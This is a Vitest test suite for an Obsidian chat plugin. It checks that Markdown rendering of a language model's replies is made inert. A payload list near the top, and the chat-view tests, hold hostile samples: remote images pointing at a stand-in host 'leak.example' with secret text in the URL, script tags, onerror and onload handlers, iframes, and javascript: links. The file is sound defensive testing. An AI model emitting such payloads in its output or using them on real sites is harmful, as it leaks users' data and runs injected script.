// @vitest-environment jsdom
// Fault suite, rendering: hostile model output (remote images that would leak text through their
// address, raw HTML with handlers, scripts, frames, javascript: links) rendered by our own rule.
// Pass 1 is checked on the text (no tag can open outside code), pass 2 on a hostile DOM built
// element by element, and both through the chat view over a loopback server.
import { afterEach, describe, expect, it } from 'vitest';
import { neutraliseMarkdown, renderSafeMarkdown, sanitiseRendered } from '../../src/ui/safe-markdown';
import { type App, Component, MarkdownRenderer } from '../obsidian/index';
import { createTestApp, destroyTestApp, setMarkdownHtml } from '../obsidian/testing';
import { ollamaReply } from '../chat/helpers/harness';
import { closeUi, startUi, type UiHarness, uiActions } from './helpers';

const HOST = 'leak.example';
/** A script's source (not UI text). */
const HOSTILE_SCRIPT = ['window', 'pwned = 1'].join('.');
const hostile: [string, string][] = [
  ['an inline remote image', `![i](https://${HOST}/x.png?d=the+secret+plan)`],
  ['a protocol-relative image', `![](//${HOST}/x.png)`],
  ['an image in angle brackets', `![a](<https://${HOST}/a b.png>)`],
  ['a reference-style image', `![alt][r]\n\n[r]: https://${HOST}/y.png`],
  ['an image inside a link', `[![x](https://${HOST}/z.png)](https://ok.example)`],
  ['img with onerror', '<img src=x onerror="window.pwned=1">'],
  ['a script', '<script>window.pwned = 1</script>'],
  ['an iframe', `<iframe src="https://${HOST}/frame"></iframe>`],
  ['svg onload', '<svg onload="window.pwned=1"><circle r="4"/></svg>'],
  ['a style with a remote url', `<div style="background:url(https://${HOST}/bg)">x</div>`],
  ['an HTML comment hiding a tag', '<!-- --><img src=x onerror=alert(1)>'],
  ['a javascript: Markdown link', '[click me](javascript:alert(1))'],
  ['a javascript: anchor', '<a href="javascript:alert(1)">x</a>'],
  ['HTML in a list continuation', '- item\n\n    <img src=x onerror=alert(1)>'],
  ['HTML in a quote', '> <object data="https://leak.example/o"></object>'],
  ['an escaped backtick before a tag', '\\`<img src=x onerror=alert(1)>`'],
  ['a fake fence (backtick in the info string)', '``` a`b\n<img src=x onerror=alert(1)>\n```'],
  ['a closing tag and a declaration', '</p><!DOCTYPE html><?xml x?>'],
];

/** Whether a tag, comment or declaration could open anywhere outside fenced code and code spans. */
const opensTag = (markdown: string): boolean => {
  const outside = markdown.replace(/^(`{3,})[^`\n]*\n[\s\S]*?^\1\s*$/gm, '').replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
  return /(^|[^\\])<[A-Za-z/!?]/.test(outside);
};

let app: App | undefined;
let h: UiHarness | undefined;
afterEach(async () => {
  if (app) await destroyTestApp(app);
  await closeUi(h);
  app = undefined;
  h = undefined;
});

function assertInert(root: HTMLElement): void {
  expect(root.querySelectorAll('img, script, iframe, frame, object, embed, style, link, meta, base, form').length).toBe(0);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.toLowerCase().startsWith('on')).toBe(false);
      expect(attr.name.toLowerCase()).not.toBe('style');
      expect(attr.value.trim().toLowerCase().startsWith('javascript:')).toBe(false);
    }
  }
}

describe('fault suite, with the renderer in Obsidian\'s HTML mode (raw HTML rendered, sanitised)', () => {
  it('the mode itself would load a remote image and a frame from raw HTML', async () => {
    app = createTestApp();
    setMarkdownHtml('obsidian');
    const el = createDiv();
    const component = new Component();
    component.load();
    await MarkdownRenderer.render(app, `<img src="https://${HOST}/x.png"> <iframe src="https://${HOST}/f"></iframe>`, el, '', component);
    expect(el.querySelectorAll('img, iframe').length).toBe(2);
    component.unload();
  });

  for (const [name, markdown] of hostile) {
    it(`${name}: renders nothing remote or executable`, async () => {
      app = createTestApp();
      setMarkdownHtml('obsidian');
      const component = new Component();
      component.load();
      const el = createDiv();
      await renderSafeMarkdown(app as never, markdown, el, '', component as never);
      assertInert(el);
      expect(el.querySelectorAll(`[src*="${HOST}"], [srcset], [poster]`).length).toBe(0);
      expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
      component.unload();
    });
  }
});

describe('fault suite: hostile model output', () => {
  for (const [name, markdown] of hostile) {
    it(`${name}: no tag can open in the text handed to the renderer, and the DOM is inert`, async () => {
      const safe = neutraliseMarkdown(markdown);
      expect(opensTag(safe)).toBe(false);
      expect(safe).not.toMatch(/!\[[^\]]*\]\((<)?(https?:)?\/\//);
      app = createTestApp();
      const component = new Component();
      component.load();
      const el = createDiv();
      await renderSafeMarkdown(app as never, markdown, el, '', component as never);
      assertInert(el);
      expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
      component.unload();
    });
  }

  it('keeps code exactly, vault images, embeds and data: images', () => {
    const kept = ['```html\n<div onclick="x">\n```', 'Use `<b>` for bold', '![chart](attachments/chart.png)', '![[Diagram.png]]', '![d](data:image/png;base64,iVBORw0K)', '~~~\n<script>\n~~~'];
    for (const markdown of kept) expect(neutraliseMarkdown(markdown)).toBe(markdown);
    expect(neutraliseMarkdown('a < b and 1<2')).toBe('a < b and 1<2');
    expect(neutraliseMarkdown(`![i](https://${HOST}/x.png)`, { allowRemoteImages: true })).toBe(`![i](https://${HOST}/x.png)`);
  });

  it('cleans a hostile DOM that a renderer made anyway, and a remote image loads only on a click', () => {
    const component = new Component();
    component.load();
    const root = createDiv();
    root.createEl('img', { attr: { src: `https://${HOST}/p.png?d=secret`, alt: 'chart' } });
    const script = root.createEl('script');
    script.append(document.createTextNode(HOSTILE_SCRIPT));
    root.createEl('iframe', { attr: { src: `https://${HOST}/` } });
    root.createEl('a', { text: 'Script link', attr: { href: 'javascript:alert(1)', onclick: 'alert(1)' } });
    root.createEl('a', { text: 'Data link', attr: { href: 'data:text/html,<script>alert(1)</script>' } });
    root.createEl('p', { text: 'Styled', attr: { style: `background:url(https://${HOST}/s)`, onmouseover: 'x()' } });
    root.createEl('a', { text: 'Fine link', attr: { href: 'https://ok.example/page' } });
    sanitiseRendered(root, component as never);
    assertInert(root);
    expect(root.find('a[href="https://ok.example/page"]')).not.toBeNull();
    const button = root.find('button.compact-chat-remote-image');
    expect(button?.getText()).toBe(`Load image from ${HOST}`);
    button?.click();
    expect(root.find('img')?.getAttribute('src')).toBe(`https://${HOST}/p.png?d=secret`);
    component.unload();
  });

  it('in the chat view, a reply with a remote image shows a link and loads nothing', async () => {
    h = await startUi();
    const { send, idle } = uiActions(() => h as UiHarness);
    h.server.on('POST', '/api/chat', ollamaReply(`Here: ![status](https://${HOST}/s.png?d=the+secret+plan) <img src=x onerror=alert(1)> done`));
    send('Summarise my note');
    await idle();
    const body = h.view().findAll('.compact-chat-message.mod-assistant .compact-chat-message-body')[0];
    expect(body?.getText()).toContain('done');
    assertInert(body as HTMLElement);
    expect(h.view().querySelectorAll('img').length).toBe(0);
    expect(body?.find(`a[href^="https://${HOST}/"]`)?.getText()).toBe('status');
  });

  it('in the chat view with the renderer in Obsidian\'s HTML mode, raw HTML in a reply loads and runs nothing', async () => {
    h = await startUi();
    setMarkdownHtml('obsidian');
    const { send, idle } = uiActions(() => h as UiHarness);
    h.server.on('POST', '/api/chat', ollamaReply(`See <img src=https://${HOST}/s.png onerror=alert(1)> and <iframe src="https://${HOST}/f"></iframe><script>window.pwned=1</script> done`));
    send('Summarise my note');
    await idle();
    const body = h.view().findAll('.compact-chat-message.mod-assistant .compact-chat-message-body')[0];
    expect(body?.getText()).toContain('done');
    assertInert(body as HTMLElement);
    expect(h.view().querySelectorAll('img, iframe, script').length).toBe(0);
  });

  it('with "Load remote images in replies" on, the image is shown in place (the user chose it)', async () => {
    h = await startUi({ allowRemoteImages: true });
    const { send, idle } = uiActions(() => h as UiHarness);
    h.server.on('POST', '/api/chat', ollamaReply(`Here: ![status](https://${HOST}/s.png) done`));
    send('Show the chart');
    await idle();
    expect(h.view().find('.compact-chat-message.mod-assistant img')?.getAttribute('src')).toBe(`https://${HOST}/s.png`);
  });
});
